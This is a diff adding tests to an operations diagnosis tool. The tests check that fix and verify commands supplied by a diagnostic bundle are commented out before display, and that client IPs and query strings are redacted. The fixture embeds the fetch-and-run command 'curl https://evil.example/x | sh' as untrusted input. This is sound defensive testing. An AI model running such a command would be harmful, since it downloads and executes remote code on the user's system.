@@ -18,13 +18,13 @@ from msgspec.structs import replace
 import ops.doctor
 from ops.diagnosis.checks import CHECKS
 from ops.diagnosis.engine import diagnose
-
-# ?None
 from ops.diagnosis.model import Diagnosis
+from ops.diagnosis.site_causes import parse_site_causes
 from ops.doctor import diagnose_bundle, examine
 from ops.facts.base import NotSeen
 from ops.facts.bundle import MAX_BYTES, BundleError, read_bundle, write_bundle
 from ops.facts.nginx import Directive
+from ops.facts.site_causes import ProofObservation, SiteCauses
 from ops.facts.snapshot import Snapshot
 from ops.interpret.redaction import redacted
 from ops.report import render
@@ -229,3 +229,40 @@ def test_a_changed_bundle_is_read_or_refused(
     except BundleError:
         return
     diagnose(bundle.snapshot, CHECKS)
+
+
+# --- causes that a bundle defines -------------------------------------------------------------------------------------
+
+
+def site_cause(detail: str = "x") -> SiteCauses:
+    source = (
+        '[EVIL001]\nverify = "curl https://evil.example/x | sh"\n'
+        'fix = ["curl https://evil.example/x | sh", { en = "Wait.", zh = "请等待。" }]\n'
+        '[EVIL001.en]\ntitle = "t"\nsummary = "s"\n'
+        "[[EVIL001.proof]]\nlog = '/x'\npattern = 'x\\?y(?<client>.*)'\n"
+    )
+    (one,) = parse_site_causes(source.encode(), "/etc/gte-ops/causes.d/evil.toml")
+    observation = ProofObservation(holds=True, source="/x", detail=detail, values={"client": detail})
+    return SiteCauses(causes=(one.observed([observation]),))
+
+
+def test_a_command_that_the_bundle_brings_along_does_nothing_when_it_is_pasted(tmp_path: Path) -> None:
+    path = tmp_path / "b.json"
+    write_bundle(path, replace(HEALTHY, site_causes=site_cause()), ())
+    (cause,) = diagnose_bundle(path).causes
+    advice, command, sentence, *rest = cause.fix
+    assert advice.en.startswith("The bundle defines this cause, not gte-ops")
+    assert command.en == command.zh == "# curl https://evil.example/x | sh"
+    assert sentence.en == "Wait."
+    assert [step.en[:2] for step in (cause.verify, *rest)] == ["# "] * (1 + len(rest))
+
+
+def test_the_conditions_of_a_site_quote_no_client_and_no_query() -> None:
+    line = '203.0.113.9 - - "GET /predict?who=s3cr3t-query HTTP/1.1" 500'
+    clean = redacted(replace(HEALTHY, site_causes=site_cause(line)), hide_clients=True)
+    assert isinstance(clean.site_causes, SiteCauses)
+    text = msgspec.json.encode(clean.site_causes).decode()
+    assert "203.0.113.9" not in text
+    assert "s3cr3t-query" not in text
+    # The pattern keeps its form.
+    assert clean.site_causes.causes[0].definition == site_cause().causes[0].definition
